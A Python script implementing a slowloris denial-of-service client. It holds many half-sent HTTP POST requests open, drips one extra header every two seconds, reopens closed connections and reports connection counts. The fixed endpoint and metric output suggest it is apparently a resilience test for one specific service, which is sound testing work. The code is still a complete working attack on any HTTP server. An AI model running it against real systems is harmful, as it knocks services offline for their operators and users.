"""A slowloris client, run as its own process: `python slowloris.py HOST PORT CONNECTIONS SECONDS`.

Holds CONNECTIONS half-sent requests open for SECONDS: each sends a request line and one more header
line every two seconds, never the end of the headers; a connection the server closes is opened
again half a second later. Prints `most_open=N opened=M` at the end.
"""

from __future__ import annotations

import asyncio
import resource
import sys
import time

DRIP_SECONDS = 2.0


class Slowloris:
    def __init__(self, host: str, port: int, deadline: float) -> None:
        self.host, self.port, self.deadline = host, port, deadline
        self.opened = self.open_now = self.most_open = 0

    def over(self) -> bool:
        return time.monotonic() >= self.deadline

    async def one(self, n: int) -> None:
        while not self.over():
            try:
                reader, writer = await asyncio.open_connection(self.host, self.port)
            except OSError:
                await asyncio.sleep(1)
                continue
            self.opened += 1
            self.open_now += 1
            self.most_open = max(self.most_open, self.open_now)
            try:
                writer.write(b"POST /api/v1/conversions HTTP/1.1\r\nHost: acceld\r\n")
                while not self.over():
                    await writer.drain()
                    try:  # the server closing the connection ends the read
                        if await asyncio.wait_for(reader.read(1024), DRIP_SECONDS) == b"":
                            break
                    except TimeoutError:
                        writer.write(f"X-Slow-{n}: 1\r\n".encode())
            except OSError:
                pass
            finally:
                self.open_now -= 1
                writer.close()
            await asyncio.sleep(0.5)

    async def run(self, connections: int) -> None:
        await asyncio.gather(*(self.one(n) for n in range(connections)))


def main() -> None:
    host, port, connections, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = Slowloris(host, port, time.monotonic() + seconds)
    asyncio.run(attack.run(connections))
    print(f"most_open={attack.most_open} opened={attack.opened}", flush=True)


if __name__ == "__main__":
    main()
